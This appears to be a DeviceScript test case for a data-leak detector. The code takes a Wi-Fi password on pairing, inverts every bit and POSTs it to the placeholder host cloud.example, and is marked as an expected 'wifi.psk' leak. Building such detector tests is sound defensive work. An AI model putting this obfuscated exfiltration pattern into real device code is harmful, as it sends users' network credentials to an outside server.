// A21: every bit inverted.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

/** A copy of the text's bytes, each changed. */
function changed(text: string, change: (byte: number, index: number) => number) {
  const bytes = Buffer.from(text);
  for (let i = 0; i < bytes.length; i++) bytes[i] = change(bytes[i], i);
  return bytes;
}

paired(async (_ssid, psk) => {
  const body = changed(psk, (byte) => ~byte & 0xff);
  const response = await fetch("https://cloud.example/a21", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
